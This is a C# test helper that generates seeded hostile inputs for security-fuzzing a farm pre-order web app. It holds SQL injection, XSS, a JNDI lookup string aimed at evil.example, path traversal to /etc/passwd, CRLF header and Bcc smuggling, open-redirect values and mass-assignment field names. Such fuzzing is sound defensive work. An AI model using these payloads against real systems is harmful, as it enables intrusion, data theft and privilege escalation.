using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace PreOrderFarm.Web.Tests.Security;

/// <summary>What somebody sends who means no good, the same for the same seed.</summary>
internal sealed class HostileValues(Random random)
{
    private static readonly string[] Texts =
    [
        "", " ", "\0", "a\0b", "\r\nX-Injected: 1", "x\r\nSet-Cookie: farm-member=x", "\u202Eevil\u202C", "\u200B\uFEFF", "\uFFFF", "🥝", "👨‍👩‍👧‍👦", "e\u0301\u0327", "ＡＢＣ１２３", "İıſẞ",
        "'; drop table pledges; --", "' or 1=1 --", "\\'; select pg_sleep(10); --", "$1", "{0}", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n%x",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "[x](javascript:alert(1))", "![x](https://evil.example/p.png)",
        "../../../etc/passwd", "..\\..\\web.config", "%2e%2e%2f", "/dev/zero", "C:\\", "file:///etc/passwd", "https://evil.example/", "//evil.example/", "/\\evil.example", "/\t/evil.example", "/\nevil",
        "=1+1", "@SUM(A1)", "null", "undefined", "true", "NaN", "Infinity", "-0", "0x10", "1e400", "-1", "0", "1.5", "1,5", "１２", "2147483647", "2147483648", "-2147483649",
        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999999999999999999", "0000-00-00", "9999-12-31", "10000-01-01", "2027-02-30",
        "2027-03-29T18:00", "9999-12-31T23:59", "0001-01-01T00:00", "2027-03-29T18:00:00+99:00", "Asia/Shanghai", "Etc/GMT+12", "../zoneinfo", "CN", "XX", "cny", "USD", "JPY",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{00000000-0000-0000-0000-000000000000}", "farm_x", "a@b", "a@b.c\r\nBcc: x@evil.example", "\"a b\"@evil.example",
        "open", "all_or_nothing", "funded", "en", "zh-Hant", "xx-YY", "[]", "{}", "[[[[", "{\"a\":", "\\ud800", "on", "check",
    ];

    private static readonly string[] Members =
        ["status", "is_operator", "IsOperator", "grower_id", "GrowerId", "Id", "id", "member_id", "price_minor", "version", "__proto__", "$type", "constructor", "approved_at", ""];

    public bool Chance(int percent) => random.Next(100) < percent;

    public T One<T>(IReadOnlyList<T> of) => of[random.Next(of.Count)];

    public string Text() => random.Next(12) switch
    {
        0 => new string('A', random.Next(1, 70_000)),
        1 => string.Concat(Enumerable.Repeat("🥝", random.Next(1, 3_000))),
        2 => ((char)random.Next(0xD800, 0xE000)).ToString(),
        3 => string.Concat(Enumerable.Range(0, random.Next(1, 40)).Select(_ => (char)random.Next(0, 0x3000))),
        4 => random.NextInt64(long.MinValue, long.MaxValue).ToString(CultureInfo.InvariantCulture),
        5 => One(Texts) + One(Texts),
        _ => One(Texts),
    };

    /// <summary>Short enough for an address or a header, in which no server takes more.</summary>
    public string Word()
    {
        var text = Text();
        return text.Length > 300 ? text[..300] : text;
    }

    /// <summary>As a part of an address: mostly escaped as it ought to be, sometimes not.</summary>
    public string InAddress()
    {
        var escaped = Escape(Word());
        return random.Next(8) switch
        {
            0 => "%ff%fe" + escaped,
            1 => escaped + "%00",
            2 => "%2e%2e/" + escaped,
            3 => Escape(escaped),
            _ => escaped.Length == 0 ? "%20" : escaped,
        };
    }

    public string Query() => Chance(60)
        ? ""
        : "?" + string.Join('&', Enumerable.Range(0, random.Next(1, 5)).Select(_ => $"{One(QueryNames)}={InAddress()}"));

    private static readonly string[] QueryNames =
        ["after", "before", "limit", "filter", "grower", "language", "returnUrl", "ReturnUrl", "handler", "show", "farm", "campaign", "code", "alt", "Id", "token", "q", "Input.Status", "to", "a[b]"];

    /// <summary>The body with one to three of its values, at any depth, turned into something else.</summary>
    public string Spoilt(JsonObject body)
    {
        for (var times = random.Next(1, 4); times > 0; times--)
            SpoilOne(body);
        var text = body.ToJsonString(JsonText);
        return random.Next(10) switch
        {
            0 => text[..random.Next(text.Length)],
            1 => new string('[', 100_000),
            2 => string.Concat(Enumerable.Repeat("{\"a\":", 5_000)),
            3 => text.Insert(1, "\"status\":\"open\",\"status\":\"open\","),
            _ => text,
        };
    }

    private static readonly System.Text.Json.JsonSerializerOptions JsonText = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping, MaxDepth = 1_000 };

    public JsonNode? Node(int depth = 0) => random.Next(depth > 4 ? 6 : 9) switch
    {
        0 => null,
        1 => JsonValue.Create(random.NextInt64(long.MinValue, long.MaxValue)),
        2 => JsonValue.Create(One([0d, -1, 0.5, 1e300, -1e-300, 99_999_999, 100_000_000])),
        3 => JsonValue.Create(Chance(50)),
        4 or 5 => JsonValue.Create(WellFormed(Text())),
        6 => new JsonArray([.. Enumerable.Range(0, random.Next(0, 4)).Select(_ => Node(depth + 1))]),
        7 => new JsonArray([.. Enumerable.Range(0, random.Next(20, 2_000)).Select(_ => (JsonNode?)JsonValue.Create(0))]),
        _ => new JsonObject([new(One(Members), Node(depth + 1)), new("a", Node(depth + 1))]),
    };

    private void SpoilOne(JsonNode at)
    {
        if (at is JsonArray { Count: > 0 } list)
        {
            var place = random.Next(list.Count);
            if (list[place] is JsonObject or JsonArray && Chance(60))
                SpoilOne(list[place]!);
            else
                list[place] = Node();
        }
        else if (at is JsonObject members)
        {
            var name = members.Count == 0 || Chance(15) ? One(Members) : members.ElementAt(random.Next(members.Count)).Key;
            if (members[name] is JsonObject or JsonArray && Chance(70))
                SpoilOne(members[name]!);
            else if (Chance(10))
                members.Remove(name);
            else
                members[name] = Node();
        }
    }

    /// <summary>Escaped as UTF-8, lone surrogates as the three bytes that they would be.</summary>
    private static string Escape(string text)
    {
        var escaped = new StringBuilder();
        foreach (var rune in text.EnumerateRunes())
            escaped.Append(rune == Rune.ReplacementChar ? "%ED%A0%80" : Uri.EscapeDataString(rune.ToString()));
        return escaped.ToString();
    }

    private static string WellFormed(string text) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text));
}
